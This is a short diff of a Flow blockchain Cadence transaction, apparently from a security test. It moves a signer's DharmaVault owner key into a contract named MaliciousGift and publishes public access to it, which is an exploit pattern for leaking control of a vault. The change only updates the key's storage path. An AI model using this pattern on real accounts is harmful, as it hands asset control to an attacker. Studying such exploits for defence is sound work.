@@ -6,7 +6,7 @@ import MaliciousGift from 0x0000000000000016
 transaction {
 
     prepare(signer: auth(SaveValue, LoadValue, IssueStorageCapabilityController, PublishCapability) &Account) {
-        let key <- signer.storage.load<@DharmaVault.OwnerKey>(from: DharmaVault.keyStoragePath)!
+        let key <- signer.storage.load<@DharmaVault.OwnerKey>(from: DharmaVault.getKeyPath(signer.address))!
         signer.storage.save(<- MaliciousGift.wrap(key: <- key), to: /storage/gift)
         signer.capabilities.publish(signer.capabilities.storage.issue<&MaliciousGift.Gift>(/storage/gift), at: /public/gift)
     }
